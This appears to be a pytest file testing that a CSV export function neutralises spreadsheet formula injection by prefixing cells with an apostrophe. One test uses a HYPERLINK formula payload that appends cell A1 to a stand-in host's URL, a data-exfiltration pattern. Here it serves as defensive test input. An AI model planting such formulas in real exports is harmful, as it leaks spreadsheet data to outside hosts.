"""Text of others that a spreadsheet would take for a formula is text in it."""

from __future__ import annotations

import io

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from image_assets.spreadsheets import csv_of


@pytest.mark.parametrize("begin", [*"=+-@\t\r\n＝"])
def test_a_name_that_begins_like_a_formula_is_text(begin: str) -> None:
    name = f'{begin}HYPERLINK("http://a.invalid/"&A1)'
    found = pl.read_csv(io.BytesIO(csv_of(pl.DataFrame({"source": [name], "bytes": [-3]}))))
    assert found.rows() == [(f"'{name}", -3)]  # numbers are no formulas


def test_without_it_the_name_would_begin_the_cell() -> None:
    assert pl.DataFrame({"source": ["=1+1"]}).write_csv().splitlines()[1] == "=1+1"


@given(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1), min_size=1))
def test_what_is_written_is_read_again_but_for_the_apostrophe(texts: list[str]) -> None:
    found = pl.read_csv(io.BytesIO(csv_of(pl.DataFrame({"text": texts}))), schema={"text": pl.String})["text"].to_list()
    assert [one.removeprefix("'") if one != text else one for one, text in zip(found, texts, strict=True)] == texts
    assert not any(one[0] in "=+-@\t\r\n＝＋－＠" for one in found)
